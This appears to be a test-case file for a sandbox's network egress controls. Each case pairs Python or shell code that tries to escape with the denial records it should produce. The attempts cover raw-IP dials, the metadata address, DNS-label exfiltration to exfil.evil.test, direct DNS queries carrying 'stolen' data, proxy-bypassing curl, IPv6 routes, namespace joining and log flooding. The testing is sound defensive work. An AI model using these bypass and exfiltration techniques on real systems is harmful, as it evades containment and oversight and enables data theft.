/** Ways out past the channel, and what is recorded of them. */
import type { EscapeCase } from "../escape-case.ts"

const channel = { network: { proxyPort: 3128, transparentPorts: [], dns: false } } as const

export const egress: readonly EscapeCase[] = [
  {
    name: "a raw address is refused and recorded, whatever the port",
    language: "python",
    source: `
for address, port in (("93.184.216.34", 443), ("169.254.169.254", 80), ("10.0.0.1", 22), ("192.168.1.1", 53), ("1.1.1.1", 853)):
    must_fail("%s:%d" % (address, port), lambda: dial(address, port))`,
    denied: [
      "address_not_allowed 93.184.216.34:443",
      "address_not_allowed 169.254.169.254:80",
      "address_not_allowed 10.0.0.1:22",
      "address_not_allowed 192.168.1.1:53",
      "address_not_allowed 1.1.1.1:853",
    ],
  },
  {
    name: "datagrams, QUIC and NTP go nowhere and are recorded",
    language: "python",
    source: `
def ask(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3); s.connect((address, port)); s.send(b"hello"); return s.recv(100)
for address, port in (("1.1.1.1", 443), ("8.8.8.8", 123)): must_fail("udp %s:%d" % (address, port), lambda: ask(address, port))`,
    denied: ["address_not_allowed udp://1.1.1.1:443", "address_not_allowed udp://8.8.8.8:123"],
  },
  {
    name: "data in the labels of a DNS name leaves no machine, and the name is recorded",
    language: "python",
    source: `
for name in ("c2vjcmv0.exfil.evil.test", "part2.exfil.evil.test"): must_fail(name, lambda: socket.getaddrinfo(name, 443))`,
    denied: ["host_not_allowed c2vjcmv0.exfil.evil.test", "host_not_allowed part2.exfil.evil.test"],
  },
  {
    name: "a name server of the world, asked directly, is not reached, and the name is recorded",
    language: "python",
    source: `
query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(p)]) + p for p in (b"stolen", b"evil", b"test")) + b"\\0\\0\\x01\\0\\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)
s.sendto(query, ("8.8.8.8", 53))
must_fail("an answer", lambda: s.recv(100))`,
    denied: ["host_not_allowed stolen.evil.test"],
  },
  {
    name: "any other address on the proxy's port is refused and recorded",
    language: "python",
    source: `
for address in ("93.184.216.34", "198.18.0.1", "198.18.7.7"): must_fail(address, lambda: dial(address, 3128))`,
    profile: channel,
    denied: [
      "address_not_allowed 93.184.216.34:3128",
      "address_not_allowed 198.18.0.1:3128",
      "address_not_allowed 198.18.7.7:3128",
    ],
  },
  {
    name: "a program that drops its proxy settings has no other route",
    language: "sh",
    source: `unset http_proxy https_proxy ALL_PROXY
must_fail curl --noproxy '*' -m 3 http://93.184.216.34/
must_fail curl --noproxy '*' -m 3 --resolve evil.test:80:93.184.216.35 http://evil.test/`,
    profile: channel,
    denied: ["address_not_allowed 93.184.216.34:80", "address_not_allowed 93.184.216.35:80"],
  },
  {
    name: "IPv6 leads nowhere and is recorded, connections, datagrams and names alike",
    language: "python",
    source: `
for address in ("2606:4700:4700::1111", "fe80::1%lo", "fd00:ec2::254", "64:ff9b::0808:0808", "::ffff:93.184.216.34"):
    must_fail(address, lambda: dial(address, 443, socket.AF_INET6))
query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(p)]) + p for p in (b"stolen6", b"evil", b"test")) + b"\\0\\0\\x01\\0\\x01"
def ask(address, port, data):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(0.3); s.connect((address, port)); s.send(data); return s.recv(100)
must_fail("quic", lambda: ask("2606:4700:4700::1111", 443, b"hello")); must_fail("dns", lambda: ask("2001:4860:4860::8888", 53, query))`,
    denied: [
      "address_not_allowed [2606:4700:4700::1111]:443",
      "address_not_allowed [fd00:ec2::254]:443",
      "address_not_allowed [64:ff9b::808:808]:443",
      "address_not_allowed 93.184.216.34:443",
      "address_not_allowed udp://[2606:4700:4700::1111]:443",
      "host_not_allowed stolen6.evil.test",
    ],
  },
  {
    name: "ping sockets are refused or go nowhere",
    language: "python",
    source: `
def ping(family, protocol, address):
    s = socket.socket(family, socket.SOCK_DGRAM, protocol); s.settimeout(0.3)
    s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", (address, 0)); return s.recv(100)
must_fail("ping", lambda: ping(socket.AF_INET, 1, "8.8.8.8")); must_fail("ping6", lambda: ping(socket.AF_INET6, 58, "2606:4700:4700::1111"))`,
  },
  {
    name: "the launcher's and the host's network namespaces are not there to be joined",
    language: "python",
    source: `
mine = os.readlink("/proc/self/ns/net")
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    link = may_fail(lambda: os.readlink("/proc/%s/ns/net" % pid))
    if link not in (None, mine): breach("another network namespace is visible: " + link)
must_fail("setns", lambda: call("setns", os.open("/proc/self/ns/net", 0), 0))
interfaces = [name for _, name in socket.if_nameindex()]
if interfaces != ["lo"]: breach("interfaces: %s" % interfaces)`,
  },
  {
    name: "a device bind, a source address or a mark gives no other way",
    language: "python",
    source: `
s = socket.socket()
must_fail("SO_MARK", lambda: s.setsockopt(socket.SOL_SOCKET, 36, 1))
must_fail("SO_BINDTODEVICE", lambda: s.setsockopt(socket.SOL_SOCKET, 25, b"eth0\\0"))
must_fail("IP_TRANSPARENT", lambda: s.setsockopt(0, 19, 1))
must_fail("the proxy's port from inside", lambda: socket.socket().bind(("127.0.0.1", 80)))`,
  },
  {
    name: "three thousand dials to itself do not push a dial to the world out of the record",
    language: "python",
    source: `
def knock(address, port):
    s = socket.socket(); s.setblocking(False); s.connect_ex((address, port)); s.close()
knock("93.184.216.34", 443)
for turn in range(3000): knock("127.0.0.1", 1024 + turn % 500)
knock("93.184.216.35", 443)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for turn in range(3000): d.sendto(b"x" * 500, ("127.0.0.1", 9))
may_fail(lambda: d.sendto(b"hello", ("1.1.1.1", 443)))`,
    denied: [
      "address_not_allowed 93.184.216.34:443",
      "address_not_allowed 93.184.216.35:443",
      "address_not_allowed udp://1.1.1.1:443",
    ],
  },
  {
    name: "three thousand dials to the call's own listeners do not push out a dial to the world either",
    language: "python",
    source: `
def knock(address, port):
    s = socket.socket(); s.setblocking(False); s.connect_ex((address, port)); s.close()
for turn in range(3000): knock("198.18.1.%d" % (turn % 200), 443)
knock("93.184.216.36", 22)`,
    profile: { network: { proxyPort: 3128, transparentPorts: [443], dns: true } },
    denied: ["address_not_allowed 93.184.216.36:22"],
  },
  {
    name: "a flood of dials at ever new targets does not hide that there were more than the record names",
    language: "python",
    source: `
def knock(address, port):
    s = socket.socket(); s.setblocking(False); s.connect_ex((address, port)); s.close()
for turn in range(5000): knock("93.184.%d.%d" % (turn // 200, 1 + turn % 200), 443)
knock("10.9.8.7", 443)`,
    denied: ["attempts_unnamed more targets than the record holds"],
  },
]
